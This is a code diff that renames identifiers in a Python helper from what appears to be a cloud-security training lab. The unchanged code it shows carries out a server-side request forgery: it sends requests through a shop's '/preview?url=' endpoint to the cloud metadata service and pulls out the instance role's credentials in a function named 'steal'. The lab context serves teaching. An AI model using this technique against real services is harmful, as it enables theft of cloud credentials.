@@ -17,7 +17,7 @@ from urllib.parse import parse_qs, urlencode, urlsplit
 import requests
 
 from labs_helpers.cloud import NotModelled
-from labs_helpers.course.days.day1.actors import FAR_AWAY, Kept
+from labs_helpers.course.days.day1.actors import FAR_AWAY, CreatedResources
 
 if TYPE_CHECKING:
     import boto3
@@ -43,7 +43,7 @@ class Shop:
 
     def __init__(self, cloud: Cloud, instance: str | None = None, *, containers: bool = False) -> None:
         self._cloud = cloud
-        self._instance = instance or cloud.part(Kept).ids[INSTANCE]
+        self._instance = instance or cloud.part(CreatedResources).ids[INSTANCE]
         self._hops = 2 if containers else 1
 
     def visit(self, path: str) -> str:
@@ -77,18 +77,18 @@ class Shop:
         return self._cloud.instance(self._instance).session(hops=self._hops)
 
 
-def through(shop: Shop, path: str) -> str:
+def fetch_metadata(shop: Shop, path: str) -> str:
     """Return the metadata service's response for a path, requested through the shop's hole."""
     return shop.visit("/preview?" + urlencode({"url": METADATA + path}))
 
 
 def steal(shop: Shop) -> dict[str, Any] | None:
     """Return the role's credentials after three visits to the shop's preview; None if they are not exposed."""
-    role = through(shop, ROLES).strip()
+    role = fetch_metadata(shop, ROLES).strip()
     if not role or " " in role:
         return None
     try:
-        found = json.loads(through(shop, ROLES + role))
+        found = json.loads(fetch_metadata(shop, ROLES + role))
     except ValueError:
         return None
     if found.get("Code") != "Success":
